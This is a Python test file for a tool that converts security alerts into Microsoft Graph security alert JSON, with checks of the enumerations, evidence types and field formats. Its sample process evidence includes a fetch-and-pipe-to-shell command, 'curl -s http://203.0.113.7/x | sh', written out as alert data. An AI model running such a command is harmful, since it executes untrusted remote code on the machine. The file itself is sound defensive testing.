from __future__ import annotations

import ipaddress
import json
import re
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given

from schemas.alert import Alert, Subscription
from schemas.entities import Details, Entity
from schemas.formats import graph as module
from schemas.formats.graph import graph
from schemas.kinds import understand
from tests.examples import EXAMPLES, encoded
from tests.fidelity.measure import parsed
from tests.fixtures import RESOURCE, SUBSCRIPTION, defender_alert, hostile
from tests.strategies import alerts

# Graph's metadata (v1.0), as its SDK 1.65 has them: enumerations, and the properties by type.
ENUMERATIONS = {
    "severity": "unknown informational low medium high unknownFutureValue",
    "status": "unknown new inProgress resolved unknownFutureValue",
    "classification": """unknown falsePositive truePositive informationalExpectedActivity
        unknownFutureValue""",
    "determination": """unknown apt malware securityPersonnel securityTesting unwantedSoftware other
        multiStagedAttack compromisedAccount phishing maliciousUserActivity notMalicious
        notEnoughDataToValidate confirmedActivity lineOfBusinessApplication unknownFutureValue""",
    "serviceSource": """unknown microsoftDefenderForEndpoint microsoftDefenderForIdentity
        microsoftDefenderForCloudApps microsoftDefenderForOffice365 microsoft365Defender
        azureAdIdentityProtection microsoftAppGovernance dataLossPrevention unknownFutureValue
        microsoftDefenderForCloud microsoftSentinel microsoftInsiderRiskManagement
        microsoftThreatIntelligence microsoftSecurityForAI""",
    "detectionSource": """unknown microsoftDefenderForEndpoint antivirus smartScreen customTi
        microsoftDefenderForOffice365 automatedInvestigation microsoftThreatExperts customDetection
        microsoftDefenderForIdentity cloudAppSecurity microsoft365Defender azureAdIdentityProtection
        manual microsoftDataLossPrevention appGovernancePolicy appGovernanceDetection
        unknownFutureValue microsoftDefenderForCloud microsoftDefenderForIoT
        microsoftDefenderForServers microsoftDefenderForStorage microsoftDefenderForDNS
        microsoftDefenderForDatabases microsoftDefenderForContainers microsoftDefenderForNetwork
        microsoftDefenderForAppService microsoftDefenderForKeyVault
        microsoftDefenderForResourceManager microsoftDefenderForApiManagement nrtAlerts
        scheduledAlerts microsoftDefenderThreatIntelligenceAnalytics builtInMl
        microsoftInsiderRiskManagement microsoftThreatIntelligence microsoftDefenderForAIServices
        securityCopilot microsoftSentinel""",
    "verdict": "unknown suspicious malicious noThreatsFound unknownFutureValue",
    "remediationStatus": """none remediated prevented blocked notFound unknownFutureValue active
        pendingApproval declined unremediated running partiallyRemediated""",
    "role": """unknown contextual scanned source destination created added compromised edited
        attacked attacker commandAndControl loaded suspicious policyViolator unknownFutureValue""",
}
TEXT, TIME, LIST, WHOLE = "text", "time", "list", "whole"
ALERT = {
    name: kind
    for kind, names in {
        TEXT: """@odata.type id actorDisplayName alertPolicyId alertWebUrl assignedTo category
            description detectorId incidentId incidentWebUrl productName providerAlertId
            recommendedActions tenantId threatDisplayName threatFamilyName title""",
        TIME: """createdDateTime firstActivityDateTime lastActivityDateTime lastUpdateDateTime
            resolvedDateTime""",
        LIST: "categories comments mitreTechniques systemTags",
    }.items()
    for name in names.split()
}
ENUMERATED = {
    *("severity", "status", "classification", "determination", "serviceSource", "detectionSource"),
}
ALWAYS = {
    *("@odata.type", "id", "providerAlertId", "title", "mitreTechniques", "comments", "evidence"),
    *("systemTags", "additionalData", "categories"),
    *ENUMERATED,
}
ACCOUNT = """accountName activeDirectoryObjectGuid azureAdUserId displayName domainName tenantId
    userPrincipalName userSid"""
FILE = "fileName filePath filePublisher issuer md5 sha1 sha256 sha256Ac signer"
EVIDENCE: dict[str, dict[str, Any]] = {
    kind: dict.fromkeys(texts.split(), TEXT) | more
    for kind, texts, more in [
        (
            "device",
            """azureAdDeviceId deviceDnsName dnsDomain hostName lastExternalIpAddress lastIpAddress
            mdeDeviceId ntDomain osPlatform rbacGroupName version""",
            {"vmMetadata": "cloudProvider resourceId subscriptionId vmId"},
        ),
        (
            "ioTDevice",
            """deviceId deviceName devicePageLink deviceSubType deviceType ioTSecurityAgentId
            macAddress manufacturer model operatingSystem purdueLayer sensor serialNumber site
            source zone""",
            {"protocols": LIST, "ipAddress": "@odata.type ipAddress"},
        ),
        ("ip", "countryLetterCode ipAddress", {"location": "city countryName state"}),
        ("user", "", {"userAccount": ACCOUNT}),
        ("file", "mdeDeviceId", {"fileDetails": FILE}),
        (
            "process",
            "mdeDeviceId processCommandLine",
            {"imageFile": FILE, "processId": WHOLE, "parentProcessId": WHOLE},
        ),
        ("url", "url", {}),
        ("dns", "domainName", {}),
        ("registryKey", "registryHive registryKey", {}),
        (
            "registryValue",
            """mdeDeviceId registryHive registryKey registryValue registryValueName
            registryValueType""",
            {},
        ),
        ("mailbox", "displayName primaryAddress upn", {}),
        (
            "analyzedMessage",
            """antiSpamDirection deliveryAction deliveryLocation internetMessageId language
            networkMessageId recipientEmailAddress senderIp subject urn""",
            {},
        ),
        ("cloudApplication", "displayName instanceName", {"appId": WHOLE}),
        ("oauthApplication", "appId displayName objectId publisher", {}),
        ("azureResource", "resourceId resourceName resourceType", {}),
        ("amazonResource", "amazonAccountId amazonResourceId resourceName resourceType", {}),
        ("googleCloudResource", "fullResourceName projectId resourceName resourceType", {}),
        (
            "securityGroup",
            "displayName distinguishedName friendlyName securityGroupId sid",
            {},
        ),
        ("malware", "category name", {"files": LIST, "processes": LIST}),
    ]
}
MOMENT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z")
PREFIX = "#microsoft.graph.security."


def fits(kind: str, value: Any) -> bool:
    if kind == LIST:
        return isinstance(value, list) and all(isinstance(it, str) for it in value)
    if kind == WHOLE:
        return type(value) is int and 0 <= value < 2**63
    if kind == TIME:
        return MOMENT.fullmatch(value) is not None
    if kind == TEXT:
        return isinstance(value, str)
    names = kind.split()  # of a complex type: its texts; a file also has a size
    return all(
        (name in names and isinstance(text, str)) or (name == "fileSize" and type(text) is int)
        for name, text in value.items()
    )


def check(made: dict[str, Any]) -> None:
    """By Graph's metadata."""
    assert made["@odata.type"] == f"{PREFIX}alert"
    assert set(made) >= ALWAYS
    for name in ENUMERATED:
        assert made[name] in ENUMERATIONS[name].split(), name
    for piece in made["evidence"]:
        check_evidence(dict(piece))
    additional = dict(made["additionalData"])
    assert additional.pop("@odata.type") == f"{PREFIX}dictionary"
    assert all(isinstance(text, str) and text for text in additional.values())
    for name, value in made.items():
        if name not in ENUMERATED and name not in ("evidence", "additionalData"):
            assert fits(ALERT[name], value), f"{name} is {value!r}"


def check_evidence(piece: dict[str, Any]) -> None:
    kind = piece.pop("@odata.type").removeprefix(PREFIX).removesuffix("Evidence")
    assert piece.pop("verdict") in ENUMERATIONS["verdict"].split()
    assert piece.pop("remediationStatus") in ENUMERATIONS["remediationStatus"].split()
    assert set(piece.pop("roles")) <= set(ENUMERATIONS["role"].split())
    assert piece.pop("detailedRoles") == piece.pop("tags") == []
    assert MOMENT.fullmatch(piece.pop("createdDateTime", "2026-03-04T10:13:14Z"))
    assert piece
    for name, value in piece.items():
        assert fits(EVIDENCE[kind][name], value), f"{kind}.{name} is {value!r}"
    if kind == "ip":
        ipaddress.ip_address(piece["ipAddress"])


def said(alert: Alert) -> dict[str, Any]:
    made: dict[str, Any] = json.loads(graph(alert))
    if alert.kind == "graph_alert":
        assert made == json.loads(alert.raw)
    else:
        check(made)
    return made


def example(name: str, **overrides: Any) -> dict[str, Any]:
    return said(understand(encoded(EXAMPLES[name].record(**overrides))))


def test_an_alert() -> None:
    record = defender_alert()
    alert = understand(encoded(record))
    alert.subscription = Subscription(SUBSCRIPTION, "Shop", "ann@example.com", "production")
    common: dict[str, Any] = {
        "verdict": "unknown",
        "remediationStatus": "none",
        "detailedRoles": [],
        "tags": [],
        "createdDateTime": "2026-03-04T10:13:14.987Z",
    }
    image = {"fileName": "curl", "filePath": "/usr/bin", "md5": "0a" * 16}
    assert said(alert) == {
        "@odata.type": "#microsoft.graph.security.alert",
        "id": record["SystemAlertId"],
        "providerAlertId": record["SystemAlertId"],
        "title": record["AlertDisplayName"],
        "description": record["Description"],
        "severity": "high",
        "status": "new",
        "serviceSource": "microsoftDefenderForCloud",
        "detectionSource": "microsoftDefenderForServers",
        "productName": "Microsoft Defender for Cloud",
        "detectorId": "VM_SuspiciousDownload",
        "classification": "unknown",
        "determination": "unknown",
        "category": "Persistence",
        "categories": ["Persistence", "CredentialAccess"],
        "mitreTechniques": [],
        "comments": [],
        "systemTags": [],
        "recommendedActions": "Ask the machine's owner.\nIsolate the machine.",
        "alertWebUrl": record["AlertUri"],
        "createdDateTime": "2026-03-04T10:13:14.987Z",
        "lastUpdateDateTime": "2026-03-04T10:13:14.987Z",
        "firstActivityDateTime": "2026-03-04T10:11:12.123Z",
        "lastActivityDateTime": "2026-03-04T10:12:00.500Z",
        "additionalData": {
            "@odata.type": "#microsoft.graph.security.dictionary",
            "event_id": alert.event_id,
            "kind": "defender_alert",
            "severity": "High",
            "status": "New",
            "resource": "shop-vm-1",
            "resource_ids": RESOURCE,
            "resource_type": "Virtual Machine",
            "workspace_id": "22222222-0000-4000-8000-000000000002",
            "workspace_subscription_id": "99999999-0000-4000-8000-000000000001",
            "subscription_id": SUBSCRIPTION,
            "subscription_name": "Shop",
            "subscription_owner": "ann@example.com",
            "subscription_environment": "production",
        },
        "evidence": [
            common
            | {
                "@odata.type": "#microsoft.graph.security.deviceEvidence",
                "roles": ["destination"],
                "deviceDnsName": "shop-vm-1",
                "hostName": "shop-vm-1",
                "vmMetadata": {
                    "cloudProvider": "azure",
                    "resourceId": RESOURCE,
                    "subscriptionId": SUBSCRIPTION.upper(),
                },
            },
            common
            | {
                "@odata.type": "#microsoft.graph.security.ipEvidence",
                "roles": ["source"],
                "ipAddress": "203.0.113.7",
                "countryLetterCode": "NL",
                "location": {"countryName": "NL"},
            },
            common
            | {
                "@odata.type": "#microsoft.graph.security.userEvidence",
                "roles": [],
                "userAccount": {"accountName": "svc-web", "domainName": "SHOP-VM-1"},
            },
            common
            | {
                "@odata.type": "#microsoft.graph.security.processEvidence",
                "roles": [],
                "processId": 8000,
                "processCommandLine": "curl -s http://203.0.113.7/x | sh",
                "imageFile": image,
            },
            common
            | {
                "@odata.type": "#microsoft.graph.security.fileEvidence",
                "roles": [],
                "fileDetails": image,
            },
        ],
    }


def test_a_graph_alert_goes_through_as_it_is() -> None:
    record = EXAMPLES["graph_alert"].record()
    raw = encoded(record)
    assert graph(understand(raw)) == raw
    spread = json.dumps(record, indent=1).replace("\n", "\r\n").encode()
    assert json.loads(graph(understand(spread))) == record
    with pytest.raises(ValueError, match="not a JSON object"):
        graph(Alert(kind="graph_alert", key=bytes(16), entity="e", raw=b"[]"))


@pytest.mark.parametrize("name", sorted(set(EXAMPLES) - {"graph_alert"}))
def test_every_kind_becomes_an_alert_by_the_metadata(name: str) -> None:
    assert example(name)["additionalData"]["kind"] == name


@pytest.mark.parametrize(
    ("name", "overrides", "field", "value"),
    [
        ("defender_alert", {"Severity": "Critical"}, "severity", "high"),
        ("defender_alert", {"Severity": "Odd"}, "severity", "unknown"),
        ("defender_alert", {"Status": "Dismissed"}, "status", "resolved"),
        ("defender_alert", {"Status": "InProgress"}, "status", "inProgress"),
        (
            *("defender_alert", {"AlertType": "Storage.Blob_OpenACL"}, "detectionSource"),
            "microsoftDefenderForStorage",
        ),
        ("defender_alert", {"AlertType": "Odd"}, "detectionSource", "microsoftDefenderForCloud"),
        ("arm_alert", {}, "detectionSource", "microsoftDefenderForDatabases"),
        ("iot_alert", {}, "serviceSource", "microsoftDefenderForCloud"),
        ("iot_alert", {}, "detectionSource", "microsoftDefenderForIoT"),
        ("security_alert", {}, "serviceSource", "microsoftSentinel"),
        ("security_alert", {}, "detectionSource", "scheduledAlerts"),
        ("graph_alert_v1", {}, "serviceSource", "microsoftDefenderForCloud"),
        ("graph_alert_v1", {}, "classification", "truePositive"),
        (
            "security_incident",
            {"Classification": "BenignPositive"},
            "classification",
            ("informationalExpectedActivity"),
        ),
        ("security_incident", {"Classification": "Odd"}, "classification", "unknownFutureValue"),
        ("security_incident", {}, "createdDateTime", "2026-03-04T10:25:00Z"),
        (
            "security_incident",
            {"CreatedTime": "yesterday"},
            "createdDateTime",
            ("2026-03-04T10:29:59.250Z"),
        ),
        ("graph_incident", {}, "determination", "malware"),
        ("graph_incident", {}, "tenantId", "22222222-0000-4000-8000-000000000002"),
        ("graph_incident", {}, "assignedTo", "sam@corp.example"),
        ("common_security_log", {}, "serviceSource", "unknown"),
        ("xdr", {}, "serviceSource", "microsoftDefenderForEndpoint"),
    ],
)
def test_values(name: str, overrides: dict[str, Any], field: str, value: str) -> None:
    assert example(name, **overrides)[field] == value


@pytest.mark.parametrize(
    ("word", "source"),
    [
        ("Antivirus", "antivirus"),
        ("EDR", "microsoftDefenderForEndpoint"),
        ("Microsoft 365 Defender", "microsoft365Defender"),
        ("endpointSensor", "unknownFutureValue"),
    ],
)
def test_a_word_that_graph_lacks_is_one_of_the_future(
    word: str, source: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    known = Details(attributes={"detection_source": word})
    monkeypatch.setattr(module, "details", lambda alert: known)
    assert example("defender_alert")["detectionSource"] == source


def test_evidence_by_type(monkeypatch: pytest.MonkeyPatch) -> None:
    guid = "aaaaaaaa-5555-4222-8333-444455556666"
    cases: list[tuple[Entity, str, dict[str, Any]]] = [
        (
            Entity(type="host", name="pc-1", domain="corp.example", id="e" * 40),
            "device",
            {
                "deviceDnsName": "pc-1.corp.example",
                "hostName": "pc-1",
                "dnsDomain": "corp.example",
                "mdeDeviceId": "e" * 40,
            },
        ),
        (
            Entity(
                type="device",
                name="PLC 7",
                attributes={
                    "ip": "10.7.0.7",
                    "mac": "00-00-5E-00-53-07",
                    "Protocols": "S7, Modbus",
                },
            ),
            "ioTDevice",
            {
                "deviceName": "PLC 7",
                "ipAddress": {
                    "@odata.type": "#microsoft.graph.security.ipEvidence",
                    "ipAddress": "10.7.0.7",
                },
                "macAddress": "00:00:5E:00:53:07",
                "protocols": ["S7", "Modbus"],
            },
        ),
        (
            Entity(type="user", name="ann", domain="corp.example", id=guid, role="actor"),
            "user",
            {
                "userAccount": {
                    "accountName": "ann",
                    "domainName": "corp.example",
                    "userPrincipalName": "ann@corp.example",
                    "azureAdUserId": guid,
                },
                "roles": ["source"],
            },
        ),
        (Entity(type="mailbox", name="a@b.example"), "mailbox", {"primaryAddress": "a@b.example"}),
        (
            Entity(type="group", name="Ops", id="S-1-5-32-544"),
            "securityGroup",
            {
                "displayName": "Ops",
                "sid": "S-1-5-32-544",
            },
        ),
        (Entity(type="ip", name="2001:DB8::7"), "ip", {"ipAddress": "2001:db8::7"}),
        (Entity(type="url", name="https://x.example"), "url", {"url": "https://x.example"}),
        (Entity(type="domain", name="x.example"), "dns", {"domainName": "x.example"}),
        (
            Entity(type="file", name="x", hashes=("1b" * 20,), attributes={"fileSize": "7"}),
            "file",
            {"fileDetails": {"fileName": "x", "sha1": "1b" * 20, "fileSize": 7}},
        ),
        (
            Entity(type="process", command_line="sh", pid="0x10", parent_pid="1"),
            "process",
            {"processCommandLine": "sh", "processId": 16, "parentProcessId": 1},
        ),
        (
            Entity(type="registry", path="HKLM\\Run"),
            "registryKey",
            {
                "registryHive": "HKLM",
                "registryKey": "Run",
            },
        ),
        (
            Entity(type="registry", path="HKLM\\Run", name="odd", attributes={"valueData": "x"}),
            "registryValue",
            {
                "registryHive": "HKLM",
                "registryKey": "Run",
                "registryValueName": "odd",
                "registryValue": "x",
            },
        ),
        (
            Entity(type="message", name="Invoice", id="m-1", attributes={"senderIp": "none"}),
            "analyzedMessage",
            {"subject": "Invoice", "networkMessageId": "m-1"},
        ),
        (
            Entity(type="application", name="Office", id="11161"),
            "cloudApplication",
            {
                "displayName": "Office",
                "appId": 11161,
            },
        ),
        (Entity(type="application", id=guid), "oauthApplication", {"appId": guid}),
        (
            Entity(type="resource", id=RESOURCE),
            "azureResource",
            {
                "resourceId": RESOURCE,
                "resourceName": "shop-vm-1",
                "resourceType": "Microsoft.Compute/virtualMachines",
            },
        ),
        (
            Entity(type="resource", id="arn:aws:s3:::b", name="b"),
            "amazonResource",
            {
                "amazonResourceId": "arn:aws:s3:::b",
                "resourceName": "b",
            },
        ),
        (
            Entity(type="resource", id="//storage.example/b", name="b"),
            "googleCloudResource",
            {
                "fullResourceName": "//storage.example/b",
                "resourceName": "b",
            },
        ),
        (
            Entity(type="malware", name="Odd.A", attributes={"verdict": "Malicious"}),
            "malware",
            {"name": "Odd.A", "files": [], "processes": [], "verdict": "malicious"},
        ),
    ]
    dropped = (Entity(type="ip", name="no address"), Entity(type="other", name="CVE-2026-0001"))
    known = Details(entities=(*(entity for entity, _, _ in cases), *dropped))
    monkeypatch.setattr(module, "details", lambda alert: known)
    evidence = example("defender_alert")["evidence"]
    assert len(evidence) == len(cases)
    for piece, (_, kind, properties) in zip(evidence, cases, strict=True):
        assert piece["@odata.type"] == f"#microsoft.graph.security.{kind}Evidence"
        common = {"@odata.type", "verdict", "remediationStatus", "roles", "detailedRoles", "tags"}
        own = {name: value for name, value in piece.items() if name in properties}
        assert own == properties
        assert set(piece) - set(properties) == (common - set(properties)) | {"createdDateTime"}


def test_times_of_0_are_left_out() -> None:
    alert = understand(encoded(defender_alert()))
    made = said(msgspec.structs.replace(alert, event_ms=0, start_ms=0, end_ms=0))
    assert not [name for name in made if name.endswith("DateTime")]
    assert not any("createdDateTime" in piece for piece in made["evidence"])


@pytest.mark.parametrize("text", hostile())
def test_hostile_text_stays_text(text: str) -> None:
    made = example("defender_alert", AlertDisplayName=text, AlertType=text, Severity=text)
    assert made["title"] == made["detectorId"] == made["additionalData"]["severity"] == text


@given(alerts())
def test_any_alert_becomes_an_alert_by_the_metadata(alert: Alert) -> None:
    said(alert)


def test_every_sample_becomes_an_alert_by_the_metadata(shared: Path) -> None:
    for file in sorted((shared / "samples").glob("*/*")):
        for alert in parsed(file.read_bytes())[0]:
            said(alert)
